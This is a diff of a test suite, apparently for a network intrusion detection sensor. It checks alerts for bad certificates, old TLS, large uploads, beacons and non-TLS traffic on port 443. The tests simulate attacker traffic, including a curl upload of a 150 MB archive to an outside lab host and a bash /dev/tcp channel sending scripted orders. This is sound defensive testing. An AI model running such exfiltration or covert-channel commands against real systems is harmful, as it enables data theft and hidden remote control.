@@ -34,76 +34,82 @@ async function visit(
   expect(page).toContain('Ciphers supported')
 }
 
-describe.skipIf(!isRoot || !have('openssl', 'curl', 'dnsmasq'))('openssl s_server with', () => {
-  test('a certificate that signs itself is one alert', async () => {
-    await using lab = new LinkLab()
-    const pair = selfSigned(lab.directory, name)
-    const alerts = await caught(lab, () => visit(lab, pair, ['-tls1_2'], []))
-    const der = execFileSync('openssl', ['x509', '-in', pair.certFile, '-outform', 'DER'])
-    expect(alerts).toMatchObject([
-      {
-        rule: { name: 'Self-Signed Certificate of a Server Outside' },
-        ...from,
-        ...to(443),
-        tls: {
-          version: '1.2',
-          client: { server_name: name },
-          server: {
-            subject: `CN=${name}`,
-            hash: { sha256: createHash('sha256').update(der).digest('hex').toUpperCase() },
+/** Seconds of event time: uploads and tunnels are told at the report of a minute, all else at once. */
+const window = { by: victim, within: 120 }
+
+describe.skipIf(!isRoot || !have('openssl', 'curl', 'dnsmasq', 'tcpdump'))(
+  'openssl s_server with',
+  () => {
+    test('a certificate that signs itself is one alert', async () => {
+      await using lab = new LinkLab()
+      const pair = selfSigned(lab.directory, name)
+      const alerts = await caught(lab, window, () => visit(lab, pair, ['-tls1_2'], []))
+      const der = execFileSync('openssl', ['x509', '-in', pair.certFile, '-outform', 'DER'])
+      expect(alerts).toMatchObject([
+        {
+          rule: { name: 'Self-Signed Certificate of a Server Outside' },
+          ...from,
+          ...to(443),
+          tls: {
+            version: '1.2',
+            client: { server_name: name },
+            server: {
+              subject: `CN=${name}`,
+              hash: { sha256: createHash('sha256').update(der).digest('hex').toUpperCase() },
+            },
           },
         },
-      },
-    ])
-  })
+      ])
+    })
 
-  test('an expired certificate is one alert', async () => {
-    await using lab = new LinkLab()
-    const pair = new Authority(lab.directory).sign(name, '20240101', '20250101')
-    expect(await caught(lab, () => visit(lab, pair, ['-tls1_2'], []))).toMatchObject([
-      {
-        rule: { name: 'Expired Certificate of a Server Outside' },
-        ...from,
-        ...to(443),
-        tls: {
-          server: {
-            not_after: '2025-01-01T00:00:00.000Z',
-            issuer: 'O=Example Trust, CN=Example Root',
+    test('an expired certificate is one alert', async () => {
+      await using lab = new LinkLab()
+      const pair = new Authority(lab.directory).sign(name, '20240101', '20250101')
+      expect(await caught(lab, window, () => visit(lab, pair, ['-tls1_2'], []))).toMatchObject([
+        {
+          rule: { name: 'Expired Certificate of a Server Outside' },
+          ...from,
+          ...to(443),
+          tls: {
+            server: {
+              not_after: '2025-01-01T00:00:00.000Z',
+              issuer: 'O=Example Trust, CN=Example Root',
+            },
           },
         },
-      },
-    ])
-  })
+      ])
+    })
 
-  test('TLS 1.0 is one alert', async () => {
-    await using lab = new LinkLab()
-    const pair = new Authority(lab.directory).sign(name, '20260101', '20270101')
-    const old = ['--tlsv1.0', '--tls-max', '1.0', '--ciphers', 'DEFAULT@SECLEVEL=0']
-    const alerts = await caught(lab, () => visit(lab, pair, ['-tls1', ...retired], old))
-    expect(alerts).toMatchObject([
-      {
-        rule: { name: 'TLS Below 1.2 Negotiated' },
-        ...from,
-        ...to(443),
-        tls: { version: '1.0', established: true },
-      },
-    ])
-  })
+    test('TLS 1.0 is one alert', async () => {
+      await using lab = new LinkLab()
+      const pair = new Authority(lab.directory).sign(name, '20260101', '20270101')
+      const old = ['--tlsv1.0', '--tls-max', '1.0', '--ciphers', 'DEFAULT@SECLEVEL=0']
+      const alerts = await caught(lab, window, () => visit(lab, pair, ['-tls1', ...retired], old))
+      expect(alerts).toMatchObject([
+        {
+          rule: { name: 'TLS Below 1.2 Negotiated' },
+          ...from,
+          ...to(443),
+          tls: { version: '1.0', established: true },
+        },
+      ])
+    })
 
-  test('a certificate of an authority and TLS 1.2 is no alert', async () => {
-    await using lab = new LinkLab()
-    const pair = new Authority(lab.directory).sign(name, '20260101', '20270101')
-    const sensor = await lab.watch()
-    await visit(lab, pair, ['-tls1_2'], [])
-    await sleep(5000) // until its conversation has ended
-    expect(await sensor.end()).toBe(0)
-    const { alerts, flows } = sensor.summary.orthrus.sensor
-    expect(alerts.raised).toBe(0)
-    expect(flows.ended).toBeGreaterThanOrEqual(2) // a question and a visit
-  })
-})
+    test('a certificate of an authority and TLS 1.2 is no alert', async () => {
+      await using lab = new LinkLab()
+      const pair = new Authority(lab.directory).sign(name, '20260101', '20270101')
+      const sensor = await lab.watch()
+      await visit(lab, pair, ['-tls1_2'], [])
+      await sleep(5000) // until its conversation has ended
+      expect(await sensor.end()).toBe(0)
+      const { alerts, flows } = sensor.summary.orthrus.sensor
+      expect(alerts.raised).toBe(0)
+      expect(flows.ended).toBeGreaterThanOrEqual(2) // a question and a visit
+    })
+  },
+)
 
-describe.skipIf(!isRoot || !have('curl', 'dnsmasq'))('curl', () => {
+describe.skipIf(!isRoot || !have('curl', 'dnsmasq', 'tcpdump'))('curl', () => {
   test('that uploads 150 MB is one alert', async () => {
     await using lab = new LinkLab()
     const server = createServer((question, answer) => {
@@ -111,7 +117,7 @@ describe.skipIf(!isRoot || !have('curl', 'dnsmasq'))('curl', () => {
     })
     lab.space(internet).inside(() => server.listen(80))
     writeFileSync(lab.path('archive'), Buffer.alloc(150e6, 'all that we know '))
-    const alerts = await caught(lab, async () => {
+    const alerts = await caught(lab, window, async () => {
       await lab.resolver({ [name]: internet.ip })
       const said = await lab.run(victim, 'curl', '-sT', lab.path('archive'), `http://${name}/`)
       expect(said).toBe('thanks')
@@ -137,7 +143,7 @@ describe.skipIf(!isRoot || !have('curl', 'dnsmasq'))('curl', () => {
   })
 })
 
-describe.skipIf(!isRoot || !have('curl', 'dnsmasq'))('a beacon by curl', () => {
+describe.skipIf(!isRoot || !have('curl', 'dnsmasq', 'tcpdump'))('a beacon by curl', () => {
   test('of seconds instead of minutes is one alert', { timeout: 120_000 }, async () => {
     await using lab = new LinkLab()
     const server = createServer((_, answer) => answer.end('nothing to do'))
@@ -169,14 +175,14 @@ interface Evidence {
 const chatter = `exec 3<>/dev/tcp/${internet.ip}/443
 for i in 1 2 3 4 5; do printf 'order %s please, as we agreed\\n' $i >&3; read -r line <&3; done`
 
-describe.skipIf(!isRoot)('what is no TLS on 443', () => {
+describe.skipIf(!isRoot || !have('tcpdump'))('what is no TLS on 443', () => {
   test('is one alert', async () => {
     await using lab = new LinkLab()
     const server = listenAt(socket => {
       socket.on('data', said => socket.write(`you said ${said}`)).on('error', () => undefined)
     })
     lab.space(internet).inside(() => server.listen(443))
-    const alerts = await caught(lab, () => lab.run(victim, 'bash', '-c', chatter))
+    const alerts = await caught(lab, window, () => lab.run(victim, 'bash', '-c', chatter))
     server.close()
     expect(alerts).toMatchObject([
       {
